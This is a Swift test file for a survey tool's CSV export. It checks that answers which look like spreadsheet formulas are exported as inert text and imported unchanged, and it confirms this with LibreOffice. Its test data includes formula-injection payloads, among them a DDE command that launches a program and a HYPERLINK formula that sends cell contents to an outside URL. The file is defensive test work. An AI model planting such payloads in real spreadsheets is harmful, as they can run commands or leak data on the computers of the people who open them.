import CSVCodec
import Foundation
import SurveyModel
import SyntheticResponses
import TestSupport
import Testing

@testable import SurveyEvaluation

/// Answers that look like spreadsheet formulas are exported as text and imported unchanged.
struct ExportFormulaTests {
    /// Texts a respondent can type (the form trims white space at either end).
    static let formulas = [
        #"=HYPERLINK("https://example.org/?"&A1;"Klicken Sie hier")"#, "=cmd|' /C calc'!A0", "+49 6131 12345",
        "-5 Geräte", "@SUM(1;1)", "\u{FF1D}1+1", "=\u{301}1", "'=1+1", "'s Gravenhage", "'", "=1\n=2", "-\n- Punkt",
    ]

    @Test(arguments: [false, true])
    func formulaTextsRoundTrip(excel: Bool) throws {
        let survey = try SurveyEvaluationTests.survey()
        let layout = ExportLayout(survey: survey, language: "de", includesPersonal: true)
        let base = SurveyEvaluationTests.responses(survey, count: Self.formulas.count)
        let answers = zip(base, Self.formulas).map { response, formula in
            var answers = response.answers
            answers["schulname"] = .text(formula)
            answers["anmerkungen"] = .text(formula)
            answers["schulart"] = .single(.other(formula))
            return answers
        }
        let (table, positions) = try SurveyEvaluationTests.exportAndRead(
            answers, layout: layout, labels: excel, excel: excel)
        for (number, (row, expected)) in zip(table.rows, answers).enumerated() {
            let (read, problems) = layout.answers(row.fields, positions: positions, row: number + 1)
            #expect(problems.isEmpty, "\(problems)")
            #expect(read == expected)
        }
    }

    @Test func formulaIsWrittenAsTextAndNegativeNumberAsNumber() throws {
        let survey = try SurveyEvaluationTests.survey()
        let layout = ExportLayout(survey: survey, language: "de", includesPersonal: true)
        var answers = Answers()
        answers["schulname"] = .text("=1+1")
        answers["schueler"] = .number(-3.5)
        let cells = layout.cells(answers, labels: false, decimalComma: true)
        let bytes = CSVWriter.excel.write(header: layout.columns.map(\.name), rows: [cells])
        let text = String(decoding: bytes, as: UTF8.self)
        #expect(text.contains("\r\n\"'=1+1\";"))
        #expect(text.contains(";-3,5;"))
    }
}

extension ExportFormulaTests {
    /// LibreOffice Calc opens the export for German Excel and finds no formula in it, while it does run
    /// the same kind of text in a file that is not guarded (so this test can tell the difference).
    @Test(.requires(.libreOffice)) func libreOfficeShowsTextNotFormulas() throws {
        let folder = NSTemporaryDirectory() + "export-calc-\(UUID().uuidString)"
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let survey = try SurveyEvaluationTests.survey()
        let layout = ExportLayout(survey: survey, language: "de", includesPersonal: true)
        let rows = Self.formulas.map { formula in
            var answers = Answers()
            answers["schulname"] = .text(formula)
            answers["schueler"] = .number(-3.5)
            return layout.cells(answers, labels: false, decimalComma: true)
        }
        let guarded = CSVWriter.excel.write(header: layout.columns.map(\.name), rows: rows)
        try Data(guarded).write(to: URL(fileURLWithPath: folder + "/guarded.csv"))
        try Data("\u{FEFF}schulname;schueler\r\n=1+1;-3,5\r\n".utf8).write(
            to: URL(fileURLWithPath: folder + "/raw.csv"))
        // Semicolon, double quote, UTF-8, from line 1, German number format; into flat ODS, which is plain XML.
        let outcome = try ExternalTool.libreOffice.run([
            "-env:UserInstallation=file://\(folder)/profile", "--headless", "--infilter=CSV:59,34,76,1,,1031",
            "--convert-to", "fods", "--outdir", folder, folder + "/guarded.csv", folder + "/raw.csv",
        ])
        guard outcome != nil else { return }
        let sheet = try String(contentsOfFile: folder + "/guarded.fods", encoding: .utf8)
        let raw = try String(contentsOfFile: folder + "/raw.fods", encoding: .utf8)
        #expect(raw.contains("table:formula=\"of:=1+1\""), "LibreOffice no longer runs formulas from CSV files")
        #expect(!sheet.contains("table:formula"))
        #expect(sheet.contains("&apos;=HYPERLINK(&quot;https://example.org/?&quot;&amp;A1;"))
        #expect(
            sheet.components(separatedBy: "office:value-type=\"float\" office:value=\"-3.5\"").count - 1 == rows.count)
    }
}
